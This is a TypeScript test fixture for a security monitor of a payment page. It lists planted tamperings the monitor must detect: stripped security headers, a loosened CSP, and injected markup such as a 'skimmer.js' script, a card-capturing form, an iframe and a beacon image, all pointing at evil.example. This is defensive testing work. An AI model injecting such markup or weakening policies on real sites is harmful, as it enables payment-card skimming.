import type { Answer, Change } from "./between"
import type { Finding } from "./compare"

/** A change that an attacker or an accident makes, and what the watch must call it. */
export interface Planted {
  readonly name: string
  readonly found: Finding["kind"]
  readonly words: RegExp
  readonly change: Change
}

const evil = "https://evil.example"
const isPayment = ({ path }: Answer) => path.startsWith("/cotizarcompletarpago")
const without = (headers: Answer["headers"], name: string) =>
  Object.fromEntries(Object.entries(headers).filter(([key]) => key !== name))

const inHeader = (name: string, change: (value: string) => string) => (answer: Answer) =>
  isPayment(answer) ? { headers: { ...answer.headers, [name]: change(answer.headers[name] ?? "") } } : {}
const lost = (name: string) => (answer: Answer) => (isPayment(answer) ? { headers: without(answer.headers, name) } : {})
const policy = (from: string, to: string) => inHeader("content-security-policy", (value) => value.replace(from, to))
const inDocument = (html: string) => (answer: Answer) =>
  isPayment(answer) ? { body: answer.body.replace("</body>", `${html}</body>`) } : {}
const open = (answer: Answer) => ({
  headers: without(without(answer.headers, "content-security-policy"), "integrity-policy-report-only")
})

/** Changes that the watch must find and name. */
export const planted: ReadonlyArray<Planted> = [
  {
    ...{ name: "the content policy is gone", found: "header", words: /^content-security-policy: missing/ },
    change: lost("content-security-policy")
  },
  {
    ...{ name: "the policy allows a stranger's scripts", found: "header", words: /script-src: .*evil\.example/ },
    change: policy("script-src 'self'", `script-src 'self' ${evil}`)
  },
  {
    ...{ name: "the policy allows inline scripts", found: "header", words: /script-src: .*unsafe-inline/ },
    change: policy("script-src 'self'", "script-src 'self' 'unsafe-inline'")
  },
  {
    ...{ name: "the policy lets the page call anywhere", found: "header", words: /connect-src: \*/ },
    change: policy("connect-src 'self'", "connect-src *")
  },
  {
    ...{ name: "Trusted Types are off", found: "header", words: /require-trusted-types-for: missing/ },
    change: policy("; require-trusted-types-for 'script'", "")
  },
  {
    ...{ name: "the integrity policy is gone", found: "header", words: /^integrity-policy-report-only: missing/ },
    change: lost("integrity-policy-report-only")
  },
  {
    ...{ name: "another site may frame the page", found: "header", words: /frame-ancestors: \*/ },
    change: policy("frame-ancestors 'none'", "frame-ancestors *")
  },
  {
    ...{ name: "HSTS is gone", found: "header", words: /^strict-transport-security: missing/ },
    change: lost("strict-transport-security")
  },
  {
    ...{
      name: "a brand that does not report has reports sent",
      found: "header",
      words: /^reporting-endpoints: .*none/
    },
    change: inHeader("reporting-endpoints", () => `default="${evil}/seen"`)
  },
  {
    ...{
      name: "the document asks for a stranger's script",
      found: "script",
      words: /asks for https:\/\/evil\.example/
    },
    change: inDocument(`<script src="${evil}/skimmer.js"></script>`)
  },
  {
    ...{ name: "the document holds a script more", found: "script", words: /the document holds: globalThis\.x/ },
    change: inDocument("<script>globalThis.x=1</script>")
  },
  {
    ...{ name: "one byte of a script differs", found: "script", words: /assets\/portal-.*is changed/ },
    change: ({ body, path }) => (path.startsWith("/assets/portal-") ? { body: `${body} ` } : {})
  },
  {
    ...{ name: "a script that loads later differs", found: "script", words: /assets\/PaymentPage-.*is changed/ },
    change: ({ body, path }) => (path.startsWith("/assets/PaymentPage-") ? { body: `${body};0` } : {})
  },
  {
    ...{ name: "a script never comes", found: "script", words: /assets\/RightsPage-.*nothing within 30 s/ },
    change: ({ path }) => (path.startsWith("/assets/RightsPage-") ? { wait: 10 ** 8 } : {})
  },
  {
    ...{ name: "the list of scripts is gone", found: "document", words: /bytes/ },
    change: (answer) =>
      isPayment(answer) ? { body: answer.body.replace(/<script type="importmap">.*?<\/script>/s, "") } : {}
  },
  {
    ...{ name: "a form sends to a stranger", found: "form", words: /sends to https:\/\/evil\.example/ },
    change: inDocument(`<form action="${evil}/card"><input name="card"></form>`)
  },
  {
    ...{ name: "a frame covers the page", found: "frame", words: /holds https:\/\/evil\.example/ },
    change: inDocument(`<iframe src="${evil}/pay"></iframe>`)
  },
  {
    ...{ name: "the page calls a stranger", found: "connection", words: /called https:\/\/evil\.example/ },
    change: (answer) =>
      isPayment(answer) ? { ...open(answer), ...inDocument(`<img src="${evil}/seen.gif">`)(answer) } : {}
  },
  {
    ...{ name: "a stranger's style is loaded", found: "connection", words: /called https:\/\/evil\.example/ },
    change: (answer) =>
      isPayment(answer) ? { ...open(answer), ...inDocument(`<link rel=stylesheet href="${evil}/a.css">`)(answer) } : {}
  }
]

/** Changes of a brand whose browsers report (TR-28). */
export const plantedInReports: ReadonlyArray<Planted> = [
  {
    ...{ name: "reports are sent to a stranger", found: "header", words: /^reporting-endpoints: .*evil\.example/ },
    change: inHeader("reporting-endpoints", (value) => value.replaceAll('"/reports"', `"${evil}/seen"`))
  },
  {
    ...{ name: "the policy reports to a stranger", found: "header", words: /report-uri: .*evil\.example/ },
    change: policy("report-uri /reports", `report-uri ${evil}/seen`)
  },
  {
    ...{ name: "reports are sent nowhere", found: "header", words: /^reporting-endpoints: missing/ },
    change: lost("reporting-endpoints")
  }
]
